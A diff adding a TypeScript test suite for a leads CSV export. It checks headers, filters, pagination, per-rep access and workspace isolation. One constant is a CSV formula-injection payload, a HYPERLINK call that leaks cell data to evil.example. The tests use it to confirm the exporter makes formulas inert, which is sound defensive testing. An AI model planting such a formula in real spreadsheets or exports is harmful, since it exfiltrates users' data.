@@ -1,0 +1,86 @@
+// The leads CSV through its handlers (API key, and the dashboard's session caller) on the demo
+// workspace and a real database: the header, the table's filters, every lead across pages, a
+// hostile answer written inert, REPs get their own leads only, the key's workspace only.
+import { describe, expect, it } from "vitest";
+import { leadsCsv, LEAD_CSV_COLUMNS } from "../../services/leads/export-leads-csv";
+import { BANK_VP, useRoutingKit } from "../../services/routing/routing-test-kit";
+import { apiRequest, startApiKit } from "./api-test-kit";
+import { handleCreateLead } from "./handle-leads";
+import { handleDashboardLeadsCsv, handleLeadsCsv } from "./handle-leads-csv";
+
+const NOW = new Date("2026-12-01T15:00:00Z");
+const lane = process.env.TEST_DATABASE_URL ? "postgres" : "pglite";
+const env = useRoutingKit(startApiKit);
+
+const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
+const create = async (body: unknown) => ((await (await handleCreateLead(env.testDb.db, apiRequest("POST", "/leads", { key: env.kit.key, body }), NOW, env.kit.deps)).json()) as { lead: { id: string } }).lead.id;
+const small = (email: string, extra: Record<string, unknown> = {}) => ({ answers: { company_size: "20-199", industry: "technology", region: "north_america", ...extra }, person: { email, name: "Amy" } });
+const csvOf = async (query = "", key = env.kit.key) => {
+  const response = await handleLeadsCsv(env.testDb.db, apiRequest("GET", `/leads.csv${query}`, { key }), NOW, tierFilter(query));
+  return { response, text: new TextDecoder("utf-8", { ignoreBOM: true }).decode(await response.arrayBuffer()) }; // keeps the BOM
+};
+const tierFilter = (query: string) => (query.includes("tier=sales_ready") ? { tier: "sales_ready" } : {});
+const lines = (text: string) => text.replace(/^\uFEFF/, "").split("\r\n").filter(Boolean);
+
+describe(`leads CSV (${lane})`, () => {
+  it("opens with the table's header and one answer column per key; a hostile answer is inert", async () => {
+    const bank = await create({ form: "demo", answers: BANK_VP });
+    const hostile = await create(small("amy@shop.com", { note: HOSTILE }));
+    const { response, text } = await csvOf();
+    expect(response.status).toBe(200);
+    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
+    expect(response.headers.get("content-disposition")).toBe('attachment; filename="leads-2026-12-01.csv"');
+    expect(response.headers.get("access-control-allow-origin")).toBeNull();
+    expect(text.startsWith("\uFEFF")).toBe(true);
+    const [header, ...rows] = lines(text);
+    expect(header!.split(",").slice(0, LEAD_CSV_COLUMNS.length)).toEqual([...LEAD_CSV_COLUMNS]);
+    expect(header).toContain("answers.company_size");
+    expect(header).toContain("answers.note");
+    expect(rows).toHaveLength(2);
+    const hostileRow = rows.find((r) => r.includes(hostile))!;
+    expect(hostileRow).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
+    // No cell anywhere starts with a formula character (quoted or not).
+    expect(text).not.toMatch(/(^|,|\r\n)"?[=+@-]/);
+    const bankRow = rows.find((r) => r.includes(bank))!;
+    expect(bankRow).toMatch(/^2026-12-01T15:00:00\.000Z,Victoria Park,vp@firstbank\.com,First Bank,Sarah Chen,ASSIGNED,/);
+    expect(bankRow).toContain(",Sales-ready,");
+  });
+
+  it("keeps the table's filters", async () => {
+    const bank = await create({ form: "demo", answers: BANK_VP });
+    await create(small("amy@shop.com"));
+    const rows = lines((await csvOf("?tier=sales_ready")).text).slice(1);
+    expect(rows).toHaveLength(1);
+    expect(rows[0]).toContain(bank);
+  });
+
+  it("reads every lead page by page, the header once", async () => {
+    const ids = [await create(small("a@shop.com")), await create(small("b@shop.com")), await create(small("c@shop.com"))];
+    const chunks: string[] = [];
+    for await (const chunk of leadsCsv(env.testDb.db, env.kit.workspaceId, {}, null, { pageSize: 1 })) chunks.push(chunk);
+    expect(chunks).toHaveLength(4);
+    const text = chunks.join("");
+    expect(lines(text)).toHaveLength(4);
+    for (const id of ids) expect(text).toContain(id);
+  });
+
+  it("from the dashboard: a REP gets only the leads they own; signed out is 401", async () => {
+    const bank = await create({ form: "demo", answers: BANK_VP });
+    const tom = await create(small("a@shop.com"));
+    const sarah = await env.testDb.db.repProfile.findUniqueOrThrow({ where: { id: await env.kit.repIdOf("Sarah") }, select: { userId: true } });
+    const response = await handleDashboardLeadsCsv(env.testDb.db, { workspaceId: env.kit.workspaceId, viewer: { userId: sarah.userId, role: "REP" } }, {}, NOW);
+    const text = await response.text();
+    expect(response.status).toBe(200);
+    expect(text).toContain(bank);
+    expect(text).not.toContain(tom);
+    expect((await handleDashboardLeadsCsv(env.testDb.db, null, {}, NOW)).status).toBe(401);
+  });
+
+  it("the key's workspace only", async () => {
+    const id = await create(small("a@shop.com"));
+    const { response, text } = await csvOf("", env.kit.otherKey);
+    expect(response.status).toBe(200);
+    expect(text).not.toContain(id);
+    expect(lines(text)).toHaveLength(1);
+  });
+});
